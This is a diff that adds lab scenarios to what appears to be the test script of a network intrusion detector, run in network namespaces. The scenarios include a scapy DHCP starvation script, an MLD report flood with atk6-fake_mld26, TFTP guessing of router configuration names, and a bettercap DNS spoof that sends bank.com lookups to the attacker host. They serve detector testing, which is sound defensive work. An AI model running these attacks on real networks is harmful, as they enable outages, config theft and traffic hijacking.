@@ -3067,6 +3067,107 @@ scn_benign_web_login_api() {
 	kill_webapp
 }
 
+# Session 36 (fix36d): an undeclared inventory agent (Lansweeper-like) on
+# the PC2 asks every host of .100-.129 once: a request on TCP 135, 139,
+# 445 and 22 (bash /dev/tcp) and an SNMP get (snmpget); two in three
+# hosts answer on 135, 445 and 22 (socat, a line on each connection), the
+# others (.102, .105, ...) refuse. A Medium host_sweep, an
+# inventory scan to declare, not a High sweep.
+scn_inventory_agent() {
+	local i p js=() srv=()
+	for i in $(seq 100 129); do
+		[ $((i % 3)) = 0 ] && continue
+		for p in 135 445 22; do
+			inns "h$i" timeout 60 socat "TCP-LISTEN:$p,fork,reuseaddr" "SYSTEM:echo ok-$p" >/dev/null 2>&1 & srv+=($!)
+		done
+	done
+	sleep 1
+	for i in $(seq 100 129); do
+		(
+			for p in 135 139 445 22; do inns pc2 timeout 2 bash -c "echo x > /dev/tcp/$NET.$i/$p" 2>/dev/null || true; done
+			inns pc2 snmpget -v2c -c public -t 1 -r 0 "$NET.$i" 1.3.6.1.2.1.1.1.0 >/dev/null 2>&1 || true
+		) & js+=($!)
+		if [ $((i % 8)) = 0 ]; then wait "${js[@]}"; js=(); fi
+	done
+	wait "${js[@]}"
+	kill "${srv[@]}" 2>/dev/null; wait "${srv[@]}" 2>/dev/null || true
+}
+
+# restart_gw_dnsmasq: the gateway's dnsmasq afresh, its leases forgotten.
+restart_gw_dnsmasq() {
+	ip netns pids "$P-gw" | xargs -r kill; sleep 0.5
+	rm -f "$tmp/gw.leases"; start_gw_dnsmasq; sleep 1
+}
+# Session 36 (fix36d): slow starvation (review 36a dhcp_starve_2s): .66
+# sends one DISCOVER every 2 s under a new random client address, 58 in
+# all; the gateway's dnsmasq offers each. Below 50 a minute, raised at the
+# 50th forged client address never REQUESTed.
+scn_dhcp_starve_slow_2s() {
+	restart_gw_dnsmasq
+	scapy evil 'for i in range(58):
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+          BOOTP(chaddr=mac2str(RandMAC()), xid=RandInt())/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0")
+    time.sleep(2)'
+	restart_gw_dnsmasq
+}
+# Benign: a busy guest Wi-Fi behind a MAC-translating repeater (pc2): 55
+# phones join within 80 s, each DISCOVER and REQUEST sent under the
+# repeater's MAC with the phone's client address and the broadcast flag;
+# dnsmasq's 51-address pool serves 51, the last 4 retry unanswered. No
+# starvation: each phone offered an address REQUESTs it.
+scn_benign_guest_wifi_repeater() {
+	restart_gw_dnsmasq
+	scapy pc2 'conf.checkIPaddr = False
+for i in range(55):
+    ph = "da:a1:19:36:%02x:%02x" % (i // 256, i % 256)
+    x = 0x3600 + i
+    b = BOOTP(chaddr=mac2str(ph), xid=x, flags=0x8000)
+    e = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)
+    for k in range(2):
+        o = srp1(e/b/DHCP(options=[("message-type", "discover"), ("hostname", "phone%d" % i), "end"]), iface="eth0", timeout=3)
+        if o is not None and DHCP in o:
+            break
+    if o is not None and BOOTP in o and o[BOOTP].yiaddr != "0.0.0.0":
+        sendp(e/b/DHCP(options=[("message-type", "request"), ("requested_addr", o[BOOTP].yiaddr), ("server_id", "'$NET.1'"), ("hostname", "phone%d" % i), "end"]), iface="eth0")
+    time.sleep(0.8)'
+	restart_gw_dnsmasq
+}
+
+# Session 36 (fix36d): an MLD report flood from one MAC (review 36a
+# v6_fake_mld26): thc's atk6-fake_mld26 -l (no pause between reports)
+# joining ff05::1:3 for 1 s, tens of thousands of reports to ff02::16.
+scn_mld_report_flood_thc() {
+	inns evil timeout 1 atk6-fake_mld26 -l eth0 add ff05::1:3 >/dev/null 2>&1 || true
+}
+# Session 36 (fix36d): TFTP configuration theft (review 36a tftp_theft):
+# tftpd-hpa on the NAS holds startup-config and running-config; .66 asks
+# it for 12 configuration names with tftp-hpa, 10 answered "File not
+# found". brute_force (TFTP file-name guessing) on .66 beside the NAS's
+# TFTP note.
+scn_tftp_config_guessing() {
+	mkdir -p "$tmp/tftpc"
+	printf 'hostname sw1\nenable secret 5 $1$abcd$xyz\nsnmp-server community private RW\n' >"$tmp/tftpc/startup-config"
+	cp "$tmp/tftpc/startup-config" "$tmp/tftpc/running-config"; chmod -R a+rX "$tmp/tftpc"
+	inns nas timeout 30 in.tftpd -L -s "$tmp/tftpc" & local td=$!
+	sleep 1
+	local f
+	for f in startup-config running-config router-confg network-confg sw1-confg cisco.cfg config.text switch.cfg vlan.dat nvram backup.cfg config.bin; do
+		(cd "$tmp" && inns evil timeout 5 tftp "$nas" -c get "$f" /dev/null) || true
+	done
+	kill $td 2>/dev/null; wait $td 2>/dev/null || true
+}
+# Session 36 (fix36d): bettercap's dns.spoof run alone (review 36a
+# bettercap_dns_spoof): the lab's switch floods every frame (a hub, a
+# mirror), so .66 sees the PC's queries without ARP spoofing; bettercap
+# answers each bank.com query under the gateway's address and MAC with
+# an A record for .66, 20 ms after dnsmasq's REFUSED. name_poisoning with
+# no culprit MAC (two IP stacks behind one MAC).
+scn_bettercap_dns_spoof_alone() {
+	(sleep 4; for i in $(seq 1 10); do inns pc getent ahostsv4 "www$i.bank.com" | head -1; sleep 0.5; done) & local q=$!
+	(sleep 12; echo q) | inns evil timeout 17 bettercap -iface eth0 -no-colors \
+		-eval "set dns.spoof.domains *.bank.com,bank.com; set dns.spoof.address $NET.66; set dns.spoof.all true; dns.spoof on" || true
+	wait $q || true
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
